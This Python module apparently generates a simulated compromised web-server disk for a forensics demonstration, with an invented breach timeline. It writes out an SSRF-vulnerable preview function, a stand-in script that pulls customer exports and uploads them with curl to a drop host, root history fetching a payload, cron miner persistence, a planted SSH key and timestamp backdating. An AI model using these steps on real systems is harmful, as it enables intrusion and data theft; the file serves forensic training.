# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: S108 - these are paths on the simulated disk
"""Everything on the disk of the web server, with the times that the story gives it."""

from dataclasses import replace
from datetime import datetime, timedelta
from hashlib import sha256
from random import Random
from stat import S_IFDIR, S_IFLNK, S_IFREG

from . import host_logs, story
from .ext import Node, Times
from .host_logs import CRON_MINER, public_key
from .story import at, nanoseconds

BUILT = at("1") - timedelta(days=40)
"""When the image that the instance was started from had been made."""
SET_UP = at("1") - timedelta(days=26)
LABEL = "# SIMULATED: written by Locard for its demonstration, not real evidence\n"

_LINKS = {"/bin": "usr/bin", "/sbin": "usr/sbin", "/lib": "usr/lib",
          "/etc/localtime": "/usr/share/zoneinfo/Etc/UTC",
          "/etc/nginx/sites-enabled/shop": "/etc/nginx/sites-available/shop"}  # fmt: skip
_OWNERS = {"/home/mira": 1000, "/home/deploy": 1001, "/srv/shop": 33}

OS_RELEASE = """PRETTY_NAME="Ubuntu 24.04.2 LTS"
NAME="Ubuntu"
VERSION_ID="24.04"
VERSION="24.04.2 LTS (Noble Numbat)"
VERSION_CODENAME=noble
ID=ubuntu
ID_LIKE=debian
"""
ACCOUNTS = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
syslog:x:102:102::/nonexistent:/usr/sbin/nologin
sshd:x:105:65534::/run/sshd:/usr/sbin/nologin
mira:x:1000:1000:Mira Okafor (invented):/home/mira:/bin/bash
deploy:x:1001:1001:deployment (invented):/home/deploy:/bin/bash
"""
GROUP = """root:x:0:
daemon:x:1:
adm:x:4:syslog,mira
sudo:x:27:mira,deploy
www-data:x:33:
mira:x:1000:
deploy:x:1001:
"""
CRONTAB = """SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || run-parts --report /etc/cron.daily
"""
UNIT = """[Unit]
Description=Larkspur shop (SIMULATED)
After=network.target

[Service]
User=www-data
ExecStart=/srv/shop/venv/bin/gunicorn --bind 127.0.0.1:8080 app:application
Restart=always

[Install]
WantedBy=multi-user.target
"""
APP = '''"""The shop's picture preview. It fetches whatever address it is given: the hole."""
import urllib.parse
import urllib.request


def preview(query: str) -> bytes:
    address = urllib.parse.parse_qs(query)["url"][0]
    print("preview: fetching", address)
    return urllib.request.urlopen(address, timeout=5).read()
'''
MINER = f"""#!/bin/sh
# SIMULATED: this stands for a miner and does nothing.
# pool=stratum+tcp://{story.POOL}:{story.POOL_PORT} user=simulated
echo "connected to {story.POOL}:{story.POOL_PORT} (SIMULATED)"
"""
WIPED_SCRIPT = f"""#!/bin/bash
# SIMULATED: this stands for the script that took the customer exports.
aws s3 cp s3://{story.EXPORTS}/2026/ /tmp/.x --recursive --quiet
tar czf /tmp/.exports.tgz -C /tmp .x
curl -s -T /tmp/.exports.tgz https://{story.DROP}/u/larkspur
rm -rf /tmp/.x /tmp/.exports.tgz
"""
BY_DEPLOY = (
    ("10 15:02:31", "sudo systemctl status shop"), ("10 15:03:40", "exit"),
    ("11 01:45:12", "id"), ("11 01:45:19", "uname -a"), ("11 01:45:25", "cat /etc/passwd"),
    ("11 01:45:31", "sudo -l"), ("11 01:45:40", "sudo su -"), ("11 02:09:13", "exit"),
)  # fmt: skip
BY_ROOT = (
    ("11 01:45:47", "w"), ("11 01:45:52", "ss -tnp"),
    ("11 01:45:58", f"curl -s http://{story.DROP}/k.tgz -o /tmp/.k.tgz"),
    ("11 01:46:11", "mkdir -p /var/tmp/.cache-fonts; tar xzf /tmp/.k.tgz -C /var/tmp/.cache-fonts"),
    ("11 01:46:25", "vi /tmp/.s.sh"), ("11 01:46:37", "chmod +x /tmp/.s.sh && /tmp/.s.sh"),
    ("11 01:49:56", "ls -la /tmp"),
    ("11 01:58:30", "chmod +x /var/tmp/.cache-fonts/fontcached"),
    ("11 01:58:44", "echo '*/10 * * * * root /var/tmp/.cache-fonts/fontcached --quiet' "
     "> /etc/cron.d/fontcache-refresh"),
    ("11 02:03:09", "touch -d '2026-02-03 08:00' /var/tmp/.cache-fonts/fontcached"),
    ("11 02:07:41", "rm -f /tmp/.s.sh /tmp/.k.tgz"), ("11 02:09:12", "exit"),
)  # fmt: skip
BY_MIRA = (
    ("9 09:14:02", "sudo apt-get update"), ("9 09:15:31", "sudo apt-get install -y htop"),
    ("9 09:21:17", "htop"), ("10 14:31:50", "tail -n 50 /var/log/nginx/error.log"),
    ("10 14:33:40", "sudo systemctl restart shop"), ("10 14:34:12", "curl -sI localhost:8080"),
)  # fmt: skip


def nodes(seed: int) -> list[Node]:
    """All files, folders and links, folders before what is in them."""
    random = Random(seed)  # noqa: S311 - the same disk every time is what is wanted
    files = [*_system(), *_logs(random), *_people(), *_intruder()]
    folders: dict[str, Node] = {}
    for path in sorted({*(f.path for f in files), *_LINKS, *_EMPTY}):
        parts = path.split("/")[1:]
        depth = len(parts) if path in _EMPTY else len(parts) - 1
        for end in range(1, depth + 1):
            name = "/" + "/".join(parts[:end])
            folders.setdefault(name, _folder(name, files))
    links = [
        Node(path, S_IFLNK | 0o777, _times(path, BUILT), target.encode())
        for path, target in _LINKS.items()
    ]
    ordered = sorted(folders.values(), key=lambda node: (node.path.count("/"), node.path))
    # A deleted name is swallowed by the entry before it, so it may not come first.
    alive = [f for f in files if f.times.deleted is None]
    gone = [f for f in files if f.times.deleted is not None]
    return [*ordered, *links, *alive, *gone]


_EMPTY = ("/boot", "/dev", "/opt", "/proc", "/run", "/sys", "/usr/bin", "/usr/sbin", "/usr/lib",
          "/usr/share/zoneinfo/Etc", "/var/www", "/etc/cron.hourly", "/etc/cron.daily")  # fmt: skip


def _fraction(path: str, what: str) -> int:
    return int.from_bytes(sha256(f"{path}\0{what}".encode()).digest()[:8]) % 10**9


def _times(
    path: str, modified: datetime, *, born: datetime | None = None,
    changed: datetime | None = None, accessed: datetime | None = None,
    deleted: datetime | None = None,
) -> Times:  # fmt: skip
    """Times with nanoseconds as a kernel writes them; what is not said is `modified`."""
    fraction = _fraction(path, "modified")
    return Times(
        modified=nanoseconds(modified, fraction),
        accessed=nanoseconds(accessed, _fraction(path, "accessed")) if accessed
        else nanoseconds(modified, fraction),
        changed=nanoseconds(changed, _fraction(path, "changed")) if changed
        else nanoseconds(modified, fraction),
        born=nanoseconds(born, _fraction(path, "born")) if born
        else nanoseconds(modified, fraction),
        deleted=nanoseconds(deleted) if deleted else None,
    )  # fmt: skip


def _owner(path: str) -> int:
    return next((uid for start, uid in _OWNERS.items() if path.startswith(start)), 0)


def _file(path: str, content: str | bytes, times: Times, mode: int = 0o644) -> Node:
    data = content.encode() if isinstance(content, str) else content
    uid = _owner(path)
    return Node(path, S_IFREG | mode, times, data, uid, uid)


def _folder(path: str, files: list[Node]) -> Node:
    """A folder changes when a name in it comes or goes."""
    inside = [f.times for f in files if f.path.rpartition("/")[0] == path]
    changes = [t.born for t in inside] + [t.deleted for t in inside if t.deleted]
    made = nanoseconds(BUILT, _fraction(path, "made"))
    last = max([made, *changes])
    mode = 0o1777 if path in ("/tmp", "/var/tmp") else 0o700 if path.endswith("/.ssh") else 0o755
    uid = _owner(path)
    first = made if uid == 0 and ".cache" not in path else min([last, *changes])
    return Node(path, S_IFDIR | mode, Times(last, last, last, first), b"", uid, uid)


def _system() -> list[Node]:
    settled = {
        "/etc/os-release": OS_RELEASE, "/etc/debian_version": "trixie/sid\n",
        "/etc/timezone": "Etc/UTC\n", "/etc/crontab": LABEL + CRONTAB,
        "/etc/ssh/sshd_config": LABEL + "PasswordAuthentication no\nPermitRootLogin no\n",
        "/etc/cron.d/e2scrub_all": "30 3 * * 0 root test -e /run/systemd/system || "
        "SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
    }  # fmt: skip
    configured = {
        "/etc/hostname": f"{story.HOST}\n", "/etc/passwd": ACCOUNTS, "/etc/group": GROUP,
        "/etc/hosts": f"127.0.0.1 localhost\n{story.WEB_PRIVATE} {story.HOST}\n",
        "/etc/motd": "SIMULATED machine of the invented Larkspur Outfitters. Not real evidence.\n",
        "/etc/shadow": "".join(f"{line.split(':')[0]}:*:20480:0:99999:7:::\n"
                               for line in ACCOUNTS.splitlines()),
        "/etc/sudoers.d/90-shop": LABEL + "mira ALL=(ALL) NOACCOUNTS:ALL\n"
        "deploy ALL=(ALL) NOACCOUNTS:ALL\n",
        "/etc/systemd/system/shop.service": UNIT, "/srv/shop/app.py": APP,
        "/etc/nginx/sites-available/shop": LABEL + "server {\n  listen 80;\n  location / {\n"
        "    proxy_pass http://127.0.0.1:8080;\n  }\n}\n",
    }  # fmt: skip
    secret = {"/etc/shadow": 0o640, "/etc/sudoers.d/90-shop": 0o440}
    return [
        *(_file(p, text, _times(p, BUILT)) for p, text in settled.items()),
        *(_file(p, text, _times(p, SET_UP, born=SET_UP - timedelta(hours=1)), secret.get(p, 0o644))
          for p, text in configured.items()),
    ]  # fmt: skip


def _logs(random: Random) -> list[Node]:
    week, night = at("8"), at("11")
    auth = _times("auth", at("11 07:17:03"), born=week)
    system = _times("syslog", at("11 08:00:04"), born=week)
    wtmp = _times("wtmp", story.LOGGED_OUT, born=SET_UP)
    dpkg = _times("dpkg", at("10 06:44:52"), born=at("1"))
    rotated = _times("access.log.1", night, born=at("10"))
    current = _times("access.log", story.ISOLATED, born=night)
    before = host_logs.access(random, at("10"), night)
    return [
        _file("/var/log/auth.log", host_logs.auth(random), auth, 0o640),
        _file("/var/log/syslog", host_logs.system(random), system, 0o640),
        _file("/var/log/wtmp", host_logs.logins(), wtmp, 0o664),
        _file("/var/log/dpkg.log", host_logs.packages(), dpkg),
        _file("/var/log/nginx/access.log.1", before, rotated, 0o640),
        _file(
            "/var/log/nginx/access.log",
            host_logs.access(random, night, story.IMAGED),
            current,
            0o640,
        ),
    ]


def _history(commands: tuple[tuple[str, str], ...]) -> str:
    return "".join(f"#{int(at(clock).timestamp())}\n{command}\n" for clock, command in commands)


def _people() -> list[Node]:
    mira, deploy = public_key("mira@larkspur")[0], public_key("deploy@larkspur")[0]
    planted = public_key("backup")[0]
    left, done = at("10 14:40:08"), at("11 02:09:12")
    by_mira = _times("hm", left, born=SET_UP)
    by_deploy = _times("hd", story.LOGGED_OUT, born=SET_UP)
    by_root = _times("hr", done, born=done)
    grown = _times(
        "kd", story.PLANTED + timedelta(seconds=2), born=SET_UP, accessed=story.LOGGED_IN
    )
    return [
        _file("/home/mira/.bash_history", _history(BY_MIRA), by_mira, 0o600),
        _file("/home/mira/.ssh/authorized_keys", f"{mira}\n", _times("km", SET_UP), 0o600),
        _file("/home/deploy/.bash_history", _history(BY_DEPLOY), by_deploy, 0o600),
        _file("/home/deploy/.ssh/authorized_keys", f"{deploy}\n{planted}\n", grown, 0o600),
        _file("/root/.bash_history", _history(BY_ROOT), by_root, 0o600),
    ]


def _intruder() -> list[Node]:
    unpacked, wiped = at("11 01:46:11"), story.WIPED
    faked = datetime(2026, 2, 3, 8, tzinfo=story.START.tzinfo)
    folder = "/var/tmp/.cache-fonts"
    scheduled = LABEL + f"*/10 * * * * root {CRON_MINER}\n"
    settings = LABEL + f"pool={story.POOL}:{story.POOL_PORT}\n"
    backdated = _times("miner", faked, born=unpacked, changed=at("11 02:03:09"))
    # `touch -d` gives whole seconds: that is what betrays it.
    backdated = replace(backdated, modified=nanoseconds(faked), accessed=nanoseconds(faked))
    removed = _times(
        "wiped", at("11 01:46:35"), born=at("11 01:46:25"), changed=wiped,
        accessed=at("11 01:46:37"), deleted=wiped,
    )  # fmt: skip
    return [
        _file("/etc/cron.d/fontcache-refresh", scheduled, _times("cron", story.MINED)),
        _file(f"{folder}/fontcached", MINER, backdated, 0o755),
        _file(f"{folder}/fontcache.conf", settings, _times("conf", unpacked)),
        _file("/tmp/.font-unix.lock", "18411\n", _times("lock", at("11 02:00:03"))),
        _file("/tmp/.s.sh", WIPED_SCRIPT, removed, 0o755),
    ]
